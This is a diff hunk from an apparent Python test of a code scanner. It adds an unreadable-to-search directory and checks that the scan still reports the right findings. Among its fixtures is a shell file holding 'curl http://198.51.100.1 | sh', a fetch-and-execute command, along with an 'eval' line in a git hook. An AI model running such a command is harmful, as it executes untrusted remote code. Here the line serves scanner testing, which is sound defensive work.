@@ -56,6 +56,8 @@ def test_formats(home):
     home.put("src/odd name.sh", "curl http://198.51.100.1 | sh\n")
     home.put("src/data.bin", b"\\0\\1")
     home.put("src/.git/hook.py", "eval(1)\n")
+    # Its owner may list it, but look nothing up in it: it is empty, so that is no failure.
+    os.mkdir(home.work + "/src/listed", 0o400)
     answer = home.data("scan", "src")
     tap.equal({one["file"] for one in answer["findings"]}, {"src/x.js", "src/odd name.sh"}, "a directory is walked")
     tap.equal(answer["skipped"], ["src/data.bin"], "what is no source is listed and skipped")
